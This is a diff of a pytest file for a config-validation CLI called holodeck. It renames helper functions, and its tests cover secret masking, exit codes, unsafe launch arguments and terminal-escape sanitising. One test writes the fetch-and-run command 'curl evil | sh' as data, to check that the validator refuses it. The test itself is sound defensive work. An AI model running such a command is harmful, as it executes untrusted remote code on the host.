@@ -9,9 +9,9 @@ import sys
 from pathlib import Path
 
 import pytest
-from aio import aio
+from aio import async_test
 from no_network import without_network
-from terminal import holodeck
+from terminal import run_holodeck
 from typing_terminal import TypingTerminal
 
 GOOD = """name: demo
@@ -41,7 +41,7 @@ def _write(folder: Path, text: str) -> Path:
 
 @pytest.mark.proves("000:SC-005")
 def test_a_good_file_shows_what_would_be_started_with_secrets_as_names(tmp_path: Path) -> None:
-    done = holodeck("validate", cwd=_write(tmp_path, GOOD), env={**ENV, "COLUMNS": "200"})
+    done = run_holodeck("validate", cwd=_write(tmp_path, GOOD), env={**ENV, "COLUMNS": "200"})
     assert done.returncode == 0
     assert "npx -y @modelcontextprotocol/server-github '--user=${LOGIN}'" in done.stdout
     assert "https://mcp.example.com/mcp?key=***&user=${LOGIN}" in done.stdout
@@ -51,7 +51,7 @@ def test_a_good_file_shows_what_would_be_started_with_secrets_as_names(tmp_path:
 
 
 def test_a_program_reads_the_same_as_json(tmp_path: Path) -> None:
-    done = holodeck("validate", "--json", cwd=_write(tmp_path, GOOD), env=ENV)
+    done = run_holodeck("validate", "--json", cwd=_write(tmp_path, GOOD), env=ENV)
     result = json.loads(done.stdout)
     assert (result["valid"], result["problems"], done.stderr) == (True, [], "")
     assert [tool["name"] for tool in result["tools"]] == ["github", "cloud"]
@@ -61,16 +61,16 @@ def test_a_program_reads_the_same_as_json(tmp_path: Path) -> None:
 @pytest.mark.proves("D-27")
 def test_a_server_for_which_callers_bring_credentials_shows_as_such(tmp_path: Path) -> None:
     project = _write(tmp_path, GOOD + "    caller_authorization: true\n")
-    done = holodeck("validate", cwd=project, env={**ENV, "COLUMNS": "200"})
+    done = run_holodeck("validate", cwd=project, env={**ENV, "COLUMNS": "200"})
     assert done.stdout.count("http, callers' own credentials") == 1
-    shown = json.loads(holodeck("validate", "--json", cwd=project, env=ENV).stdout)["tools"]
+    shown = json.loads(run_holodeck("validate", "--json", cwd=project, env=ENV).stdout)["tools"]
     assert [tool.get("caller_authorization") for tool in shown] == [None, True]
 
 
 @pytest.mark.proves("000:FR-026", "000:SC-004")
 def test_a_bad_file_exits_with_2_and_every_problem_without_a_traceback(tmp_path: Path) -> None:
     project = _write(tmp_path, GOOD.replace("command: npx", "comand: npx").replace("name: demo", "nam: demo"))
-    done = holodeck("validate", cwd=project)
+    done = run_holodeck("validate", cwd=project)
     assert done.returncode == 2
     for words in (
         "agent.yaml:1:1  nam",
@@ -81,20 +81,20 @@ def test_a_bad_file_exits_with_2_and_every_problem_without_a_traceback(tmp_path:
     ):
         assert words in done.stderr
     assert "Traceback" not in done.stderr
-    data = json.loads(holodeck("validate", "--json", cwd=project).stdout)
+    data = json.loads(run_holodeck("validate", "--json", cwd=project).stdout)
     assert data["valid"] is False
     assert {"line": 1, "key": "nam", "kind": "ConfigError"}.items() <= data["problems"][0].items()
 
 
 def test_strict_turns_warnings_into_failure(tmp_path: Path) -> None:
     project = _write(tmp_path, GOOD.replace("    description: d\n", "", 1))
-    assert holodeck("validate", cwd=project, env=ENV).returncode == 0
-    assert holodeck("validate", "--strict", cwd=project, env=ENV).returncode == 2
+    assert run_holodeck("validate", cwd=project, env=ENV).returncode == 0
+    assert run_holodeck("validate", "--strict", cwd=project, env=ENV).returncode == 2
 
 
 def test_a_file_that_is_not_there_is_a_sentence(tmp_path: Path) -> None:
     (tmp_path / "empty").mkdir()
-    done = holodeck("validate", "agent.yaml", cwd=tmp_path / "empty")
+    done = run_holodeck("validate", "agent.yaml", cwd=tmp_path / "empty")
     assert done.returncode == 2
     assert "there is no such file" in done.stderr
 
@@ -103,39 +103,39 @@ def test_a_file_that_is_not_there_is_a_sentence(tmp_path: Path) -> None:
 def test_a_folder_without_an_agent_is_that_of_a_gateway(tmp_path: Path) -> None:
     project = tmp_path / "project"
     project.mkdir()
-    missing = holodeck("validate", cwd=project)
+    missing = run_holodeck("validate", cwd=project)
     assert (missing.returncode, "there is no agent.yaml or gateway.yaml here" in missing.stderr) == (2, True)
     (project / "gateway.yaml").write_text("models: [{name: fast, model: {provider: rehearsal}}]\n")
-    for done in (holodeck("validate", cwd=project), holodeck("validate", "project", cwd=tmp_path)):
+    for done in (run_holodeck("validate", cwd=project), run_holodeck("validate", "project", cwd=tmp_path)):
         assert done.returncode == 0
         assert "gateway.yaml is valid." in done.stdout
 
 
 @pytest.mark.parametrize("wish", [{"NO_COLOR": "1"}, {"TERM": "dumb"}])
-@aio(60)
+@async_test(60)
 async def test_a_person_who_wants_no_colours_gets_none(tmp_path: Path, wish: dict[str, str]) -> None:
     project = _write(tmp_path, GOOD)
     for env in (ENV, {}):  # a good file, and one with problems
         async with TypingTerminal("validate", cwd=project, env={**env, **wish}) as terminal:
-            await terminal.ends()
+            await terminal.wait_exit()
             assert "valid." in terminal.raw
             assert not re.search(r"\x1b\[3\dm", terminal.raw), "bold is no colour"
 
 
 def test_a_launch_that_runs_other_code_is_refused_with_the_way_to_allow_it(tmp_path: Path) -> None:
     project = _write(tmp_path, GOOD.replace('"-y", "@modelcontextprotocol/server-github"', '"-c", "curl evil | sh"'))
-    done = holodeck("validate", cwd=project, env=ENV)
+    done = run_holodeck("validate", cwd=project, env=ENV)
     assert done.returncode == 2
     assert "tools[0].args[0]" in done.stderr
     assert "allow_unsafe_args: true" in done.stderr
     allowed = (project / "agent.yaml").read_text().replace("command: npx", "command: npx\n    allow_unsafe_args: true")
     (project / "agent.yaml").write_text(allowed)
-    assert holodeck("validate", cwd=project, env=ENV).returncode == 0
+    assert run_holodeck("validate", cwd=project, env=ENV).returncode == 0
 
 
 def test_text_from_a_file_cannot_draw_on_the_terminal(tmp_path: Path) -> None:
     project = _write(tmp_path, 'name: demo\ndescription: "a \\e[31m red \\u202E reversed"\n')
-    done = holodeck("validate", cwd=project)
+    done = run_holodeck("validate", cwd=project)
     assert "\x1b" not in done.stdout
     assert "\u202e" not in done.stdout
     assert "<U+202E>" in done.stdout
@@ -146,7 +146,7 @@ def test_text_from_a_file_hides_nothing_from_the_person_who_reads_it(tmp_path: P
     hidden = "034F 115F 1160 17B4 180B 2065 2800 3164 FE00 FE0F FFA0 FFF8 1D159 E0001 E0041 E0101 E01EF 00AD 200B 2066"
     text = "".join(f"a\\U{code:0>8}" for code in hidden.split())
     project = _write(tmp_path, f'name: demo\ndescription: "{text} \\u2764\\uFE0F!"\n')
-    said = holodeck("validate", cwd=project).stdout.replace("\n", "")
+    said = run_holodeck("validate", cwd=project).stdout.replace("\n", "")
     assert "".join(f"a<U+{code}>" for code in hidden.split()) in said
     assert "\u2764\ufe0f!" in said
 
@@ -159,7 +159,7 @@ def test_nothing_is_started_or_dialled(tmp_path: Path) -> None:
     for name in ("npx", "uvx", "docker"):
         (programs / name).write_text(f"#!/bin/sh\ntouch {tmp_path}/started\n")
         (programs / name).chmod(0o755)
-    done = holodeck("validate", cwd=project, env={**ENV, "PATH": str(programs)})
+    done = run_holodeck("validate", cwd=project, env={**ENV, "PATH": str(programs)})
     assert done.returncode == 0
     assert not (tmp_path / "started").exists()
 
@@ -179,7 +179,7 @@ def test_a_schema_that_is_elsewhere_is_refused_by_name_where_there_is_no_network
     text = f"name: demo\n{function if key == 'parameters' else f'response_format: {schema}'}\n"
     project = _write(tmp_path, text)
     (project / "f.py").write_text("def f(): pass\n")
-    done = holodeck("validate", cwd=project)
+    done = run_holodeck("validate", cwd=project)
     assert done.returncode == 2
     assert "agent.yaml:2:" in done.stderr
     assert key in done.stderr
